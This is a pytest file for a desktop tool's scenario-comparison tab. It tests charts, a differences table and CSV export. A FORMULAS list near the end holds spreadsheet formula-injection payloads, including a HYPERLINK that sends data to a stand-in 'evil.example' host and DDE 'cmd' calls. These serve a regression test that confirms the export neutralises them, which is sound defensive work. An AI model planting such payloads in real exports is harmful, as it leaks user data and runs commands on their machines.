"""Comparing scenarios side by side (issue #6): bars on one scale, cost curves, what differs, CSV."""

from __future__ import annotations

import csv

import pytest
from PySide6.QtCore import Qt
from PySide6.QtGui import QColor

from tuneplan import catalog
from tuneplan.core.estimate import estimate
from tuneplan.core.result import GIB
from tuneplan.storage import ScenarioLibrary
from tuneplan.ui.scenario_compare import (
    CURRENT,
    MAX_SCENARIOS,
    ComparisonTableModel,
    ScenarioCompareView,
    ScenarioComparison,
    write_comparison_csv,
)


def _variant(name, **training):
    s = catalog.default_scenario()
    s.name = name
    for key, value in training.items():
        setattr(s.training, key, value)
    return s


def _compare_files(window, files):
    """The Compare scenarios view with exactly these saved files picked (the open plan unpicked)."""
    view = window.compare_view
    window.tabs.setCurrentWidget(view)
    view.refresh_picker()
    view.pick(CURRENT, False)
    for f in files:
        assert view.pick(str(f))
    return view


@pytest.fixture
def three(window):
    """Three saved scenarios that differ in exactly two inputs: sequence length and micro-batch."""
    lib = ScenarioLibrary()
    scenarios = [
        _variant("Baseline"),
        _variant("Long context", seq_len=4096),
        _variant("Bigger batch", micro_batch=4),
    ]
    files = [lib.save(s) for s in scenarios]
    return _compare_files(window, files), scenarios, files


def test_three_bars_on_one_axis_match_each_estimate(three, window):
    view, scenarios, _files = three
    results = [estimate(s) for s in scenarios]
    chart = view.vram_chart
    assert chart.bar_totals() == pytest.approx([r.memory.total_bytes / GIB for r in results])
    assert chart.capacities() == pytest.approx([r.memory.capacity_bytes / GIB for r in results])
    # one scale: every component is one BarGraphItem with one bar per scenario, rows top to bottom
    weights = chart.bars["weights"]
    assert list(weights.opts["y"]) == [2, 1, 0]
    assert list(weights.opts["x0"]) == [0, 0, 0]
    assert list(weights.opts["width"]) == pytest.approx(
        [r.memory.component("weights").bytes / GIB for r in results])
    for i, r in enumerate(results):
        stacked = chart.current_series()[i]
        bottom = 0.0
        for comp in r.memory.components:
            assert stacked[comp.key] == pytest.approx((bottom, comp.bytes / GIB))
            bottom += comp.bytes / GIB
    (_x0, x1), (_y0, _y1) = chart.getPlotItem().getViewBox().viewRange()
    assert x1 >= max(chart.bar_totals())
    # each row's capacity line spans only that row
    xs, ys = chart.capacity.getData()
    assert list(xs) == pytest.approx([c for c in chart.capacities() for _ in (0, 1)])
    assert all(abs(ys[2 * i] - ys[2 * i + 1]) < 1 for i in range(3))
    # labels: each capacity line names its GPU, each bar shows its total
    assert chart.cap_labels[0].textItem.toPlainText() == "RTX 4090: 23.99 GiB"
    assert [t.textItem.toPlainText() for t in chart.total_labels[:3]] == [
        f"{r.memory.total_bytes / GIB:.1f} GiB" for r in results]
    # same component colours as the plan's VRAM bar
    assert weights.opts["brush"].color().name() == window.vram_chart.segments["weights"].color


def test_cost_curves_overlaid_one_per_scenario(three):
    view, scenarios, _files = three
    series = view.cost_chart.current_series()
    assert len(series) == 3
    for (hours, usd), s in zip(series, scenarios, strict=True):
        r = estimate(s)
        assert usd[-1] == pytest.approx(r.cost.total_usd)
        assert hours[-1] == pytest.approx(r.cost.curve[-1].hours)
    legend = [label.text for _sample, label in view.cost_chart.legend.items]
    assert len(legend) == 3 and legend[0].startswith("Baseline — $")
    pens = {c.opts["pen"].color().name() for c in view.cost_chart.curves[:3]}
    assert len(pens) == 3


def test_table_lists_exactly_the_differing_inputs(three):
    view, scenarios, _files = three
    model = view.model
    inputs = [r.key for r in model.rows() if r.section == "input"]
    assert inputs == ["seq_len", "micro_batch"]
    results = [r.key for r in model.rows() if r.section == "result"]
    assert "peak_gib" in results and "usd" in results
    assert "gpu" not in model.row_keys() and "model" not in model.row_keys()
    headers = [model.headerData(c, Qt.Orientation.Horizontal) for c in range(model.columnCount())]
    assert headers == ["Baseline", "Long context", "Bigger batch"]
    row = model.row_keys().index("seq_len")
    assert [model.index(row, c).data() for c in range(3)] == ["2,048", "4,096", "2,048"]
    peak = model.row_keys().index("peak_gib")
    assert [model.index(peak, c).data() for c in range(3)] == [
        f"{estimate(s).memory.total_bytes / GIB:.1f}" for s in scenarios]
    # all fields on request
    view.only_differences.setChecked(False)
    assert {"model", "gpu", "verdict", "usd"} <= set(model.row_keys())
    view.only_differences.setChecked(True)
    assert "gpu" not in model.row_keys()


def test_editing_a_cell_updates_that_column_only(three):
    view, scenarios, files = three
    model = view.model
    row = model.row_keys().index("seq_len")
    index = model.index(row, 0)
    assert model.flags(index) & Qt.ItemFlag.ItemIsEditable
    before = [e.result for e in view.comparison.entries]
    assert model.setData(index, 8192)
    entries = view.comparison.entries
    expected = estimate(_variant("Baseline", seq_len=8192))
    assert entries[0].scenario.training.seq_len == 8192 and entries[0].edited
    assert entries[0].result == expected
    assert entries[1].result == before[1] and entries[2].result == before[2]
    assert view.vram_chart.bar_totals()[0] == pytest.approx(expected.memory.total_bytes / GIB)
    peak = model.row_keys().index("peak_gib")
    assert model.index(peak, 0).data() == f"{expected.memory.total_bytes / GIB:.1f}"
    assert model.headerData(0, Qt.Orientation.Horizontal) == "Baseline (edited)"
    assert ScenarioLibrary().load(files[0], remember=False).training.seq_len == 2048  # the file is unchanged
    # an invalid value is refused with a reason, nothing changes
    assert not model.setData(model.index(model.row_keys().index("micro_batch"), 1), 0)
    assert "must be at least 1" in view.message.text()
    assert not model.setData(model.index(model.row_keys().index("micro_batch"), 1), "two")
    assert entries[1].scenario.training.micro_batch == 1


def test_current_plan_column_follows_and_edits_the_plan(window):
    view = window.compare_view
    comparison = view.comparison
    assert comparison.keys() == [CURRENT]  # the tab starts with the plan in it
    lib = ScenarioLibrary()
    other = lib.save(_variant("Other GPU"))
    view.refresh_picker()
    assert view.pick(str(other))
    window.store.set_gpu("l40s")
    assert comparison.entries[0].result == window.store.result
    model = view.model
    assert "gpu" in model.row_keys()
    assert "num_gpus" not in model.row_keys()
    view.only_differences.setChecked(False)
    row = model.row_keys().index("seq_len")
    assert model.setData(model.index(row, 0), 1024)
    assert window.store.scenario.training.seq_len == 1024 and window.store.dirty
    assert comparison.entries[0].result == window.store.result


def test_the_report_button_writes_the_report_of_the_compared_scenarios(window, tmp_path, monkeypatch):
    view = window.compare_view
    other = ScenarioLibrary().save(_variant("Longer rows", seq_len=8192))
    view.refresh_picker()
    assert view.pick(str(other))
    window.tabs.setCurrentIndex(0)  # the button reports the comparison whichever tab is current
    target = tmp_path / "comparison.html"
    monkeypatch.setattr(type(window), "ask_report_path", lambda self, suggestion: str(target), raising=False)
    view.report_button.click()
    doc = target.read_text("utf-8")
    assert "Comparison of 2 scenarios" in doc and "Longer rows" in doc
    assert [e.scenario.name for e in view.comparison.entries] == [window.store.scenario.name, "Longer rows"]
    # a view without an exporter (standalone) writes nothing
    assert ScenarioCompareView(ScenarioComparison(window.store, ScenarioLibrary())).export_report(target) is None


def test_at_most_four_and_other_settings_row(window):
    comparison = ScenarioComparison(window.store, ScenarioLibrary())
    base = catalog.default_scenario()
    for i in range(MAX_SCENARIOS):
        s = base.model_copy(deep=True)
        s.name = f"S{i}"
        s.pricing.storage_gb = 50 + i
        assert comparison.add_scenario(s)
    errors = []
    comparison.error.connect(errors.append)
    assert not comparison.add_current()
    assert errors and "up to 4" in errors[0]
    rows = comparison.rows()
    other = [r for r in rows if r.key == "other"]
    assert len(other) == 1 and other[0].texts[1] == "pricing.storage_gb = 51"
    assert all(r.section == "result" for r in rows if r.key not in {"other"})
    model = ComparisonTableModel(comparison)
    assert model.columnCount() == 4


def test_csv_export_reads_back(three, tmp_path):
    view, scenarios, _files = three
    out = view.export_csv(tmp_path / "compare.csv")
    assert out is not None
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 with BOM for spreadsheets
    with open(out, encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert [r["Scenario"] for r in rows] == ["Baseline", "Long context", "Bigger batch"]
    header = list(rows[0])
    assert "Sequence length (tokens)" in header and "Micro-batch (sequences per GPU)" in header
    assert "Peak memory per GPU (GiB)" in header and "Cost (USD)" in header
    for row, s in zip(rows, scenarios, strict=True):
        r = estimate(s)
        assert int(row["Sequence length (tokens)"]) == s.training.seq_len
        assert float(row["Peak memory per GPU (GiB)"]) == pytest.approx(r.memory.total_bytes / GIB, abs=0.005)
        assert float(row["Cost (USD)"]) == pytest.approx(r.cost.total_usd, abs=0.005)
    # all fields: writes a column per field, inputs included
    full = write_comparison_csv(tmp_path / "all.csv", view.comparison, only_differences=False)
    with open(full, encoding="utf-8-sig", newline="") as fh:
        all_rows = list(csv.DictReader(fh))
    assert all_rows[0]["GPU"] == "RTX 4090"
    assert float(all_rows[0]["Price (USD per GPU-hour)"]) == scenarios[0].pricing.price_per_gpu_hour


def test_open_in_plan_round_trip(three, window, monkeypatch):
    view, _scenarios, files = three
    model = view.model
    model.setData(model.index(model.row_keys().index("micro_batch"), 1), 2)
    assert view.open_in_plan(str(files[1]))
    assert window.path == files[1]
    assert window.store.scenario.training.micro_batch == 2 and window.store.dirty
    assert view.comparison.keys()[1] == CURRENT
    window.store.set_field("training.seq_len", 512)
    assert view.comparison.entries[1].scenario.training.seq_len == 512


def test_a_tight_plan_is_tight_in_compare_and_its_csv_as_on_the_plan_tab(window, tmp_path):
    """Issue #21: a plan amber "tight" on the Plan tab (the estimate fits, the likely range's upper end does
    not) was green "fits" in Compare scenarios and its CSV."""
    roomy, tight = _variant("Roomy"), _variant("Tight", seq_len=8192)
    mem = estimate(tight).memory
    # by hand: 8,192 tokens on the RTX 4090 (23.99 GiB) fit by the estimate, total / 0.597 does not
    assert mem.fits and mem.high_bytes > mem.capacity_bytes >= mem.low_bytes
    assert mem.band_risk == "tight" and estimate(roomy).memory.band_risk == "none"
    spare = f"{mem.headroom_bytes / GIB:.1f}"

    # the Plan tab on the tight plan: amber, "tight" in the verdict card
    window.store.set_field("training.seq_len", 8192)
    assert window.verdict_label.text() == f"fits, {spare} GiB spare"
    assert "color: #8a5a00" in window.verdict_label.styleSheet()
    assert "tight" in window.verdict_card.detail.text()

    lib = ScenarioLibrary()
    files = [lib.save(roomy), lib.save(tight)]
    view = _compare_files(window, files)
    model = view.model
    view.only_differences.setChecked(False)
    row = model.row_keys().index("verdict")
    texts = [model.index(row, c).data() for c in range(2)]
    colors = [model.index(row, c).data(Qt.ItemDataRole.ForegroundRole).name() for c in range(2)]
    assert texts[1] == f"fits, {spare} GiB spare · tight"
    assert not texts[0].endswith("tight")
    assert colors == ["#2e7d32", "#8a5a00"]  # green for the roomy one, the Plan tab's amber for the tight one
    # the memory chart's total label takes the same colour
    assert view.vram_chart.total_labels[1].textItem.defaultTextColor().name() == "#8a5a00"

    out = view.export_csv(tmp_path / "compare.csv")
    with open(out, encoding="utf-8-sig", newline="") as fh:
        rows = {r["Scenario"]: r for r in csv.DictReader(fh)}
    assert rows["Tight"]["Verdict"] == f"fits, {spare} GiB spare · tight"
    assert rows["Roomy"]["Verdict"] == texts[0]


#: Names a spreadsheet would run as formulas (issue #22), each as the start of a plan, model or GPU name.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
]


def test_csv_export_neutralises_formulas_and_keeps_numbers(window, tmp_path):
    """Issue #22: names starting with = + - @ tab or CR were written as live formulas. OWASP: a leading '."""
    scenarios = []
    for i, formula in enumerate(FORMULAS[:4]):
        s = _variant(f"{formula} plan", seq_len=1024 * (i + 1))
        s.model_id = ""
        s.model = s.model.model_copy(update={"name": FORMULAS[i + 4]})
        s.gpu = s.gpu.model_copy(update={"name": f"@GPU{i}"})
        scenarios.append(s)
    lib = ScenarioLibrary()
    view = _compare_files(window, [lib.save(s) for s in scenarios])
    out = view.export_csv(tmp_path / "compare.csv")
    with open(out, encoding="utf-8-sig", newline="") as fh:
        table = list(csv.reader(fh))
    header, rows = table[0], table[1:]
    assert len(rows) == 4
    for cells in table:
        for cell in cells:
            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r") and cell.lstrip()[:1] not in ("=", "+", "-", "@"), cell
    # the names are all there, behind the quote, and nothing else changed
    assert [r[0] for r in rows] == [f"'{f} plan" for f in FORMULAS[:4]]
    by_row = [dict(zip(header, r, strict=True)) for r in rows]
    assert [r["Model"] for r in by_row] == [f"'{f}" for f in FORMULAS[4:]]
    assert [r["GPU"] for r in by_row] == [f"'@GPU{i}" for i in range(4)]
    for row, s in zip(by_row, scenarios, strict=True):
        assert int(row["Sequence length (tokens)"]) == s.training.seq_len  # numbers stay numbers
        assert float(row["Peak memory per GPU (GiB)"]) == pytest.approx(estimate(s).memory.total_bytes / GIB, abs=0.005)


def test_csv_cells_are_quoted_only_when_a_spreadsheet_would_compute_them():
    from tuneplan.ui.scenario_compare import spreadsheet_cell

    assert [spreadsheet_cell(v) for v in (-3.5, -2, 0, 4096, 1.25)] == [-3.5, -2, 0, 4096, 1.25]
    assert [spreadsheet_cell(v) for v in ("-3.5", "+2", "-1e-3")] == ["-3.5", "+2", "-1e-3"]  # a number, not a formula
    assert [spreadsheet_cell(v) for v in FORMULAS] == [f"'{f}" for f in FORMULAS]
    assert [spreadsheet_cell(v) for v in ("RTX 4090", "fits, 1.0 GiB spare", "", "a=b", "1-2")] == [
        "RTX 4090", "fits, 1.0 GiB spare", "", "a=b", "1-2"]
    assert spreadsheet_cell("-") == "'-"


def test_what_differs_uses_the_forms_words_not_file_ids():
    # new-user trial: the "What differs" table and the CSV showed "zero3", "none", "all-linear" instead of the
    # words of the form
    from tuneplan import catalog
    from tuneplan.core.estimate import estimate
    from tuneplan.ui.scenario_compare import FIELDS

    s = catalog.default_scenario()
    s = s.model_copy(update={"training": s.training.model_copy(update={
        "num_gpus": 4, "sharding": "zero3", "lora_targets": "all-linear", "attention": "sdpa"})})
    r = estimate(s)
    shown = {f.key: f.text(f.value(s, r)) for f in FIELDS if f.key in {"sharding", "lora_targets", "attention",
                                                                        "precision"}}
    assert shown == {"sharding": "ZeRO-3", "lora_targets": "all linear layers", "attention": "PyTorch SDPA",
                     "precision": "BF16"}


def test_bars_of_plans_with_the_same_long_name_say_what_differs(window):
    # issue #21: five plans named "Mistral 7B v0.3 LoRA on …" showed five bars labelled "Mistral 7B v0.3 LoR…"
    lib = ScenarioLibrary()
    scenarios = [_variant("Mistral 7B v0.3 LoRA on an A100 80GB SXM4 (a)"),
                 _variant("Mistral 7B v0.3 LoRA on an A100 80GB SXM4 (b)", seq_len=4096)]
    view = _compare_files(window, [lib.save(s) for s in scenarios])
    view.refresh()
    # short forms (second new-user trial: "ZeRO-2 · Sequence length (tokens) 8,192" was cut to "ZeRO-2 · Sequenc…")
    assert view.vram_chart._names == ["2,048 tokens", "4,096 tokens"]
    from tuneplan.ui.scenario_compare import BAR_NAME_CHARS, bar_labels

    a, b = catalog.default_scenario(), catalog.default_scenario()
    for s, sharding, seq in ((a, "zero2", 2048), (b, "zero3", 8192)):
        s.training = s.training.model_copy(update={"num_gpus": 2, "sharding": sharding, "seq_len": seq})
    two = ScenarioComparison(None, ScenarioLibrary())
    assert two.add_scenario(a) and two.add_scenario(b)
    labels = bar_labels(two)
    assert labels == ["ZeRO-2 · 2,048 tokens", "ZeRO-3 · 8,192 tokens"]
    assert all(len(t) <= BAR_NAME_CHARS for t in labels)  # whole on the axis
    c = catalog.default_scenario()
    c.training = c.training.model_copy(update={"num_gpus": 1, "sharding": "zero3", "seq_len": 8192})
    three = ScenarioComparison(None, ScenarioLibrary())
    assert three.add_scenario(c) and three.add_scenario(b)
    assert bar_labels(three) == ["1× GPU", "2× GPU"]  # not "1 GPUs"
    legend = [label.text for _sample, label in view.cost_chart.legend.items]
    assert legend[0].startswith("Mistral 7B v0.3 LoRA on an A100 80GB SXM4 (a)")  # the legend keeps the names


def test_bars_of_plans_with_distinct_names_keep_them(three):
    view, scenarios, _files = three
    view.refresh()
    assert view.vram_chart._names == [s.name for s in scenarios]


def test_other_settings_of_grpo_plans_are_named_as_the_form_names_them(window, tmp_path):
    # new-user trial (issue #21): two GRPO plans listed "training.vllm_memory_share = 0.3" in Other settings
    store, comparison = window.store, window.comparison
    store.set_gpu("a100_80gb_sxm")
    assert store.set_field("training.workload", "grpo")
    assert store.set_field("training.generation_engine", "vllm-colocate")
    other = store.scenario.model_copy(deep=True)
    other.name = "More completions"
    other.training.num_generations = 16
    other.training.vllm_memory_share = 0.45
    other.training.vllm_sleep = True
    other.training.kl_beta = 0.00001
    assert comparison.add_scenario(other)
    row = next(r for r in comparison.rows() if r.key == "other")
    # the current plan first (TRL's defaults: 8 completions, beta 0), then the variant; the form's labels and words
    assert row.texts == [
        "KL coefficient (beta): 0; Completions (per prompt): 8; vLLM share of the card (0-1): 0.3; "
        "vLLM sleeps while training: off",
        "KL coefficient (beta): 0.00001; Completions (per prompt): 16; vLLM share of the card (0-1): 0.45; "
        "vLLM sleeps while training: on",
    ]
    model = ComparisonTableModel(comparison)
    r = model.row_keys().index("other")
    assert model.headerData(r, Qt.Orientation.Vertical) == "Other settings"
    shown = model.data(model.index(r, 1))
    assert "training." not in shown and "e-05" not in shown
    # the CSV keeps the plan file's keys: a column a script can read in any UI language
    out = write_comparison_csv(tmp_path / "grpo.csv", comparison)
    with open(out, encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert "training.vllm_memory_share = 0.45" in rows[1]["Other settings"]


def test_other_settings_name_the_stack_and_file_only_settings_in_words(window):
    # new-user trial (issue #21): two plans that differ in their stack read "training.stack = None" and
    # "pricing.failure_probability = 0.1" in Other settings
    comparison = window.comparison
    other = window.store.scenario.model_copy(deep=True)
    other.name = "Same, on LLaMA-Factory"
    other.training.stack = "llama-factory"
    other.pricing.failure_probability = 0.1
    other.training.mfu_override = None
    assert comparison.add_scenario(other)
    row = next(r for r in comparison.rows() if r.key == "other")
    assert "I train with: not chosen" in row.texts[0] and "I train with: LLaMA-Factory" in row.texts[1]
    assert "Chance a run fails: 0; " in row.texts[0] + "; " and "Chance a run fails: 0.1" in row.texts[1]
    assert not any("training." in t or "pricing." in t or "None" in t for t in row.texts)
    assert window.field_setting_text("training.mfu_override", None) == "Measured MFU: —"
    assert window.field_setting_text("training.stack", "pytorch") == "I train with: Plain PyTorch loop"


def test_other_settings_without_a_form_field_write_the_key_and_the_number_without_e_notation():
    comparison = ScenarioComparison(None, ScenarioLibrary())
    comparison.setting_text = lambda path, value: ""  # a window without that field: the key and value as before
    a, b = catalog.default_scenario(), catalog.default_scenario()
    b.pricing.storage_gb = 1e7
    comparison.add_scenario(a)
    comparison.add_scenario(b)
    row = next(r for r in comparison.rows() if r.key == "other")
    assert row.texts[1] == "pricing.storage_gb = 10000000"  # 1e7 GB written out


def test_a_plan_its_stack_refuses_reads_cannot_run_in_the_comparison(window, qtbot):
    # the same verdict as the Plan tab (test_main_window): LLaMA-Factory refuses predict_with_generate under ZeRO-3
    from tuneplan.ui import i18n

    s = window.store.scenario
    t = s.training.model_copy(update={"stack": "llama-factory", "method": "lora", "num_gpus": 2, "sharding": "zero3",
                                      "eval_micro_batch": 2, "eval_generate_tokens": 64})
    from tuneplan.core.estimate import estimate

    r = estimate(s.model_copy(update={"training": t}))
    assert r.memory.fits and i18n.plan_verdict(r) == "cannot run as planned"
    assert i18n.plan_verdict_color(r) == i18n.VERDICT_COLORS["short"]
    ok = estimate(s)
    assert i18n.plan_verdict(ok) == i18n.verdict_summary(ok.memory)


def test_a_plan_that_cannot_run_shows_its_time_and_cost_greyed_with_the_reason(window):
    # new-user trial (issue #21): the Plan tab greys the time and cost of a plan its stack refuses; Compare scenarios
    # showed them in black beside "cannot run as planned"
    from tuneplan.ui.scenario_compare import GREYED

    comparison = window.comparison
    refused = window.store.scenario.model_copy(deep=True)
    refused.name = "LF ZeRO-3 generating"
    refused.training = refused.training.model_copy(update={
        "stack": "llama-factory", "method": "lora", "num_gpus": 2, "sharding": "zero3", "eval_micro_batch": 2,
        "eval_generate_tokens": 64})
    assert comparison.add_scenario(refused)
    model = ComparisonTableModel(comparison, only_differences=False)
    for key in ("hours", "usd", "pessimistic_usd", "tokens_per_second"):
        r = model.row_keys().index(key)
        assert model.data(model.index(r, 0), Qt.ItemDataRole.ForegroundRole) is None  # the current plan runs
        assert model.data(model.index(r, 1), Qt.ItemDataRole.ForegroundRole) == QColor(GREYED)
        tip = model.data(model.index(r, 1), Qt.ItemDataRole.ToolTipRole)
        assert "cannot run as it is" in tip and "ZeRO-3" in tip
    peak = model.row_keys().index("peak_gib")  # memory is what the plan holds either way
    assert model.data(model.index(peak, 1), Qt.ItemDataRole.ForegroundRole) is None
    # the cost chart's legend says it too (its "$5.77 · 3.9 h" read as if the run were fine)
    view = window.compare_view
    view.refresh()
    legend = [label.text for _sample, label in view.cost_chart.legend.items]
    assert "if it could run: $" in legend[1] and "if it could run" not in legend[0]


def test_table_shows_hours_as_its_label_says_and_wraps_long_cells_and_names_keep_their_ends(window, qtbot):
    # new-user trial (issue #21): "Time (hours)" read "57 min"; two columns both read "LF ZeRO-2 ge" (the names share
    # their start); verdicts were cut ("fits, 44.9 GiB sp…")
    comparison, view = window.comparison, window.compare_view
    a = window.store.scenario.model_copy(deep=True)
    a.name = "LF ZeRO-2 generating evaluation, 4k rows"
    b = a.model_copy(deep=True)
    b.name = "LF ZeRO-2 generating evaluation, 8k rows"
    b.dataset.examples = 40  # a run of minutes
    assert comparison.add_scenario(a) and comparison.add_scenario(b)
    hours = next(r for r in comparison.rows(False) if r.key == "hours")
    assert hours.label == "Time (hours)"
    assert all(t.replace(",", "").replace(".", "").isdigit() for t in hours.texts), hours.texts
    short = comparison.entries[2].result.time.hours
    assert short < 1 and hours.texts[2] == f"{short:.2f}"  # 0.xx h, not "n min"
    model = ComparisonTableModel(comparison)
    heads = [model.headerData(c, Qt.Orientation.Horizontal) for c in range(3)]
    # the start the two share ("LF ZeRO-2 generating evaluation, ", 33 characters) is left out; the current plan's
    # name shares nothing that long and stays whole; the tooltip names each in full
    assert heads[1:] == ["…4k rows", "…8k rows"]
    assert heads[0].replace("\n", " ") == f"{window.store.scenario.name} (current plan)"
    assert a.name in model.headerData(1, Qt.Orientation.Horizontal, Qt.ItemDataRole.ToolTipRole)
    assert view.table.wordWrap()


def test_distinct_names_leave_out_only_a_long_shared_start_cut_at_a_word():
    from tuneplan.ui.scenario_compare import distinct_names

    assert distinct_names(["Mistral 7B v0.3 LoRA on A100 (a)", "Mistral 7B v0.3 LoRA on A100 (b)", "Other"]) == [
        "…(a)", "…(b)", "Other"]
    assert distinct_names(["Llama 8B LoRA", "Llama 8B QLoRA"]) == ["Llama 8B LoRA", "Llama 8B QLoRA"]  # 10 shared
    # one name is the other's whole start: the shorter stays whole, the longer keeps what it adds
    assert distinct_names(["Qwen2.5 7B full fine-tune", "Qwen2.5 7B full fine-tune at 8k"]) == [
        "Qwen2.5 7B full fine-tune", "…at 8k"]
    assert distinct_names(["Same name twice here", "Same name twice here"]) == ["Same name twice here"] * 2
    # attack review: the "1" that tells these apart was cut ("…x" against "…10 x")
    assert distinct_names(["Llama 3.1 8B QLoRA run 1 x", "Llama 3.1 8B QLoRA run 10 x"]) == ["…1 x", "…10 x"]
    # two pairs whose shortened names read alike keep their whole names
    pairs = ["Llama 3.1 8B QLoRA run A", "Llama 3.1 8B QLoRA run B", "Mistral 7B full FT run x A",
             "Mistral 7B full FT run x B"]
    assert distinct_names(pairs) == pairs


def _laptop_comparison(window, name: str, stack: str | None = None):
    """The window at 1024x640 on Compare scenarios, comparing the plan with a copy named ``name`` at 8,192 tokens."""
    window.resize(1024, 640)
    view = window.compare_view
    window.tabs.setCurrentWidget(view)
    b = window.store.scenario.model_copy(deep=True)
    b.name = name
    b.training.seq_len = 8192
    b.training.stack = stack
    assert window.comparison.add_scenario(b)
    return view


def test_the_table_is_as_tall_as_its_rows_so_the_page_scrolls_not_the_table(window, qtbot):
    # new-user trial (issue #21): at 1024x640 the table kept 180 px and showed about one wrapped row behind its own
    # scroll bar
    view = _laptop_comparison(window, "Longer rows on LLaMA-Factory", stack="llama-factory")
    table = view.table
    rows = lambda: sum(table.rowHeight(r) for r in range(view.model.rowCount()))  # noqa: E731
    qtbot.waitUntil(lambda: table.minimumHeight() >= table.horizontalHeader().height() + rows())
    assert table.minimumHeight() > 180
    qtbot.waitUntil(lambda: table.height() >= table.minimumHeight())
    assert table.verticalScrollBar().maximum() == 0  # every row shown: the page scrolls instead


def test_cost_legend_shortens_names_not_their_cost_and_time_at_1024x640(window, qtbot):
    # new-user trial (issue #21): "Llama 3.1 8B QLoRA on an RTX 4090 (current plan) — $1.89 · 2.5 h" lost "2.5 h"
    from PySide6.QtGui import QFontMetrics

    view = _laptop_comparison(window, "A second plan with a long name that goes on, at 8k rows")
    comparison = window.comparison
    view.refresh()
    chart = view.cost_chart
    qtbot.wait(50)
    for (_sample, label), entry in zip(chart.legend.items, comparison.entries, strict=True):
        text = label.text
        usd = f"${entry.result.cost.total_usd:,.2f}"
        assert f" — {usd} · " in text, text  # the figures whole
        width = QFontMetrics(label.item.font()).horizontalAdvance(label.item.toPlainText())
        assert width <= chart.width() - 100, (text, width, chart.width())
    assert "…" in chart.legend.items[1][1].text  # the long name gave way
